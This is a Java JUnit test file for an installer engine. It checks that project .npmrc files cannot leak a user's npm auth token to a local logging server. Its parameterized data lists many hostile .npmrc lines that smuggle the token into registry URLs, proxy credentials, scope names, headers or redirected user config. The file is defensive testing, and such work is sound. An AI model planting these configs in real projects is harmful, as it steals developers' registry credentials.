package dev.dx.engine.install;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dx.engine.DxException;
import dev.dx.engine.fetch.RawServer;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whole installs of projects whose files try to send the user's secrets to a server that writes down all it hears. */
class SecretsStayTest {
    private static final String SECRET = "npm_c2VjcmV0c2VjcmV0";

    @TempDir
    private Path root;

    private final PoorRegistry evil = new PoorRegistry();

    @AfterEach
    void stop() {
        evil.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "registry=URL\n//HOST/:_authToken=${SECRET}",
                "registry=URL\n//HOST/:_auth=${SECRET}",
                "registry=URL\n//HOST/:username=me\n//HOST/:_password=${SECRET}",
                "registry=URL\n//HOST/:username=${SECRET}\n//HOST/:_password=eHh4",
                "registry=URL\n//${NAME}/:_authToken=${SECRET}",
                "registry=${URL_VARIABLE}\n//HOST/:_authToken=${SECRET}",
                "registry=URL\n//HOST/:_authToken=${SECRET?}",
                "registry=URL\n//HOST/:_authToken=\\\\${SECRET}",
                "registry=URL\n//HOST/:certfile=${SECRET}\n//HOST/:keyfile=${SECRET}",
                "registry=URL${SECRET}/",
                "registry=http://${SECRET}@HOST/",
                "registry=http://me:${SECRET}@HOST/",
                "@s:registry=URL\n//HOST/:_authToken=${SECRET}",
                "@s:registry=URL${SECRET}/\nregistry=URL",
                "@${SECRET}:registry=URL\nregistry=URL",
                "scope=${SECRET}\nregistry=URL",
                "registry=URL\nuser-agent=${SECRET}",
                "registry=URL\n_authToken=${SECRET}",
                "registry=URL\n_auth=${SECRET}",
                "registry=URL\notp=${SECRET}",
                "registry=URL\ntag=${SECRET}",
                "registry=URL\ncafile=${SECRET}",
                "registry=URL\nca=${SECRET}",
                "registry=http://good.invalid/\nproxy=URL${SECRET}/",
                "registry=http://good.invalid/\nproxy=http://${SECRET}@HOST/",
                "registry=http://good.invalid/\nproxy=http://me:${SECRET}@HOST/\nhttps-proxy=http://me:${SECRET}@HOST/",
                "registry=https://good.invalid/\nhttps-proxy=http://me:${SECRET}@HOST/",
                "registry=http://${SECRET}.localhost/\nproxy=URL",
                "registry=URL\nuserconfig=./evil-user\nglobalconfig=./evil-user\nprefix=.",
            })
    void aProjectCannotHaveThemSentToWhomItLikes(String npmrc) {
        TestProject project = project(npmrc, "").write("evil-user", "//" + host() + "/:_authToken=${SECRET}");
        installWhateverComesOfIt(project);
        assertKeptSecret(project);
    }

    @Test
    void theServerDoesHearTheRest() {
        installWhateverComesOfIt(project("registry=URL\n//HOST/:_authToken=open", ""));
        assertTrue(evil.heard().contains("Bearer open"), evil.heard());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "proxy=URL",
                "https-proxy=URL",
                "http-proxy=URL",
                "proxy=URL\nstrict-ssl=false",
                "@s:registry=URL",
                "registry=URL",
                "registry=http://HOST/",
            })
    void theUsersOwnSecretForAnotherHostStaysToo(String npmrc) {
        TestProject project = project(
                npmrc,
                "registry=http://good.invalid/\n//good.invalid/:_authToken=${SECRET}\n"
                        + "//good.invalid:8080/:_auth=${SECRET}");
        installWhateverComesOfIt(project);
        assertTrue(evil.heard().contains("HTTP/1.1"), "it was asked at all");
        assertKeptSecret(project);
    }

    @Test
    void archivesAndRedirectsElsewhereTakeNothingAlong() throws IOException {
        try (PoorRegistry good = new PoorRegistry()) {
            String elsewhere = evil.url() + "leaf/-/leaf-1.0.0.tgz";
            good.always(PoorRegistry.TARBALL, RawServer.status("302 Found", "Location: " + elsewhere));
            TestProject redirected =
                    project("", "registry=" + good.url() + "\n//" + hostOf(good.url()) + "/:_authToken=${SECRET}");
            redirected.install();
            assertTrue(good.heard().contains(SECRET), "the registry itself is told");
            assertTrue(evil.heard().contains("leaf-1.0.0.tgz"), "the archive came from elsewhere");
            assertKeptSecret(redirected);

            good.always(PoorRegistry.PACKUMENT, (_, out) -> PoorRegistry.send(out, evil.packument()));
            Files.delete(root.resolve("project/package-lock.json"));
            TestProject elsewhereNamed =
                    project("", "registry=" + good.url() + "\n//" + hostOf(good.url()) + "/:_authToken=${SECRET}");
            installWhateverComesOfIt(elsewhereNamed);
            assertKeptSecret(elsewhereNamed);
        }
    }

    private void assertKeptSecret(TestProject project) {
        String heard = evil.heard();
        assertFalse(heard.contains(SECRET), heard);
        assertFalse(heard.toLowerCase(java.util.Locale.ROOT).contains("proxy-authorization"), heard);
        assertFalse(project.events().toString().contains(SECRET), "the log shows it");
    }

    private static void installWhateverComesOfIt(TestProject project) {
        try {
            project.install();
        } catch (DxException refused) {
            assertFalse((refused.what() + refused.remedy()).contains(SECRET), refused.toString());
        }
    }

    private TestProject project(String npmrc, String user) {
        Map<String, String> variables = new HashMap<>();
        variables.put("SECRET", SECRET);
        variables.put("NAME", host());
        variables.put("URL_VARIABLE", evil.url());
        variables.put("npm_config_userconfig", root.resolve("user-npmrc").toString());
        variables.put("npm_config_registry", "");
        variables.put("npm_config_fetch_retries", "0");
        variables.put("PATH", "");
        try {
            Files.writeString(root.resolve("user-npmrc"), user);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return TestProject.in(root, "", variables)
                .write(
                        "package.json",
                        "{\"dependencies\": {\"leaf\": \"1.0.0\"}, \"optionalDependencies\": {\"@s/p\": \"1\"}}")
                .write(
                        ".npmrc",
                        npmrc.replace("URL", evil.url())
                                .replace("${" + evil.url(), "${URL")
                                .replace("HOST", host()));
    }

    private String host() {
        return hostOf(evil.url());
    }

    private static String hostOf(String url) {
        return URI.create(url).getRawAuthority();
    }
}
